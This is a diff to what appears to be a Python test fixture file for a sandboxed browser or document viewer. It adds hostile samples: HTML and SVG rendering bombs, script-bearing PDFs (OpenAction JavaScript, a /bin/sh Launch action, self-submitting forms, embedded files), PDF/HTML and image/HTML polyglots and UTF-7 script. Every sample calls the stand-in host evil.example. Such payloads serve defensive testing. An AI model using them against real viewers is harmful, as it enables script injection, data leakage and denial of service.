@@ -3,6 +3,8 @@
 # ruff: noqa: E501
 from __future__ import annotations
 
+from tests.browser.papers import pdf, picture
+
 E = "http://evil.example"
 JS = f"top.ran=1;self.ran=1;parent.ran=1;fetch('{E}/ran')"
 PAGES = [
@@ -67,6 +69,13 @@ PAGES = [
     f"<p>\u202e{JS}</p><a href='\x01javascript:{JS}' style='display:block;height:99px'>click</a>",
     f"<a href=' jav&#x09;ascript:{JS}' style='display:block;height:200px'>click</a>",
 ]  # fmt: skip
+# Bombs: little to send, much to draw. None may stop the page.
+PAGES += [
+    "<div>" * 20_000 + "deep" + "</div>" * 20_000,
+    f"<table>{'<tr>' + '<td colspan=1000 rowspan=60000>x' * 200}</table>",
+    f"<p style='width:99999999px;height:99999999px;font-size:9999px;position:fixed;inset:0;z-index:9999'>huge <a href='{E}/over'>click</a></p>",
+    f"<style>*{{animation:a 1ms infinite;filter:blur(999px)}}@keyframes a{{to{{background:url({E}/keyframes.png)}}}}</style><p>text</p>",
+]  # fmt: skip
 TEXTS = [
     f"<script>{JS}</script><img src={E}/text.png>",
     f"</p><img src=x onerror='{JS}'>",
@@ -77,3 +86,34 @@ SVG = (
     f"<script>{JS}</script><image href='{E}/img.png' width='9' height='9'/>"
     f"<style>@import '{E}/svg.css';</style><rect width='90' height='90' fill='teal'/></svg>"
 )
+LINK = f"<< /Type /Annot /Subtype /Link /Rect [0 0 400 500] /A << /S /URI /URI ({E}/pdf-link) >> >>"
+RUN = f"<< /S /JavaScript /JS (app.launchURL\\('{E}/pdf-js'\\);) >>"
+FORM = f"<< /Type /Annot /Subtype /Widget /FT /Btn /T (b) /Rect [0 0 400 500] /A << /S /SubmitForm /F ({E}/pdf-form) >> >>"
+FILE = "<< /Type /Filespec /F (a.html) /EF << /F 4 0 R >> >>"
+HTML_IN_PDF = f"<html><body><script>{JS}</script><img src='{E}/inside.png'></body></html>"
+PAPERS = [
+    pdf([["runs a script when it is opened"]], catalog="/OpenAction 4 0 R", objects=[RUN]),
+    pdf([["runs a script with each page"]], page="/AA << /O 4 0 R >>", objects=[RUN]),
+    pdf([["a link over the whole page"]], page="/Annots [4 0 R]", objects=[LINK]),
+    pdf([["a form that sends itself"]], page="/Annots [4 0 R]", objects=[FORM]),
+    pdf([["goes elsewhere"]], catalog="/OpenAction 4 0 R", objects=[f"<< /S /GoToR /F ({E}/other.pdf) >>"]),
+    pdf([["starts a program"]], catalog="/OpenAction 4 0 R", objects=["<< /S /Launch /F (/bin/sh) >>"]),
+    pdf([["has a file inside"]], catalog="/Names << /EmbeddedFiles << /Names [(a) 5 0 R] >> >>",
+        objects=[f"<< /Length {len(HTML_IN_PDF)} >>\nstream\n{HTML_IN_PDF}\nendstream", FILE]),
+    pdf([[f"<script>{JS.replace('(', '').replace(')', '')}</script>"]]),
+    f"%PDF-1.7 <script>{JS}</script><img src='{E}/polyglot.png'>".encode() + pdf([["PDF and HTML"]]),
+    pdf([["x" * 3000] * 300], size="0 0 14400 14400"),
+]  # fmt: skip
+PICTURES = [
+    ("image/gif", b"GIF89a=1;/*" + f"<script>{JS}</script>*/{JS}".encode()),
+    ("image/png", picture("png", 300, 200) + f"<script>{JS}</script><img src='{E}/png.png'>".encode()),
+    ("image/png", f"<html><script>{JS}</script><img src='{E}/no-png.png'></html>".encode()),
+    ("image/png", picture("png", 30_000, 30_000)),
+    ("image/gif", picture("gif", 2000, 2000, frames=40)),
+    ("image/svg+xml", f"<svg xmlns='http://www.w3.org/2000/svg'><a href='{E}/svg-link'><rect width='900' height='900'/></a><foreignObject><p xmlns='http://www.w3.org/1999/xhtml' style='background:url({E}/svg-css.png)'>x</p></foreignObject></svg>".encode()),
+    ("image/svg+xml", b"<svg xmlns='http://www.w3.org/2000/svg'><g id='a0'><rect width='9' height='9'/></g>"
+     + b"".join(b"<g id='a%d'>%s</g>" % (at, b"<use href='#a%d'/>" % (at - 1) * 10) for at in range(1, 10)) + b"</svg>"),
+    ("text/html; charset=utf-7", f"+ADw-script+AD4-{JS}+ADw-/script+AD4-".encode()),
+    ("application/xhtml+xml", f"<html xmlns='http://www.w3.org/1999/xhtml'><script>{JS}</script><body xml:base='{E}/'><img src='x.png'/></body></html>".encode()),
+    ("application/javascript", JS.encode()),
+]  # fmt: skip
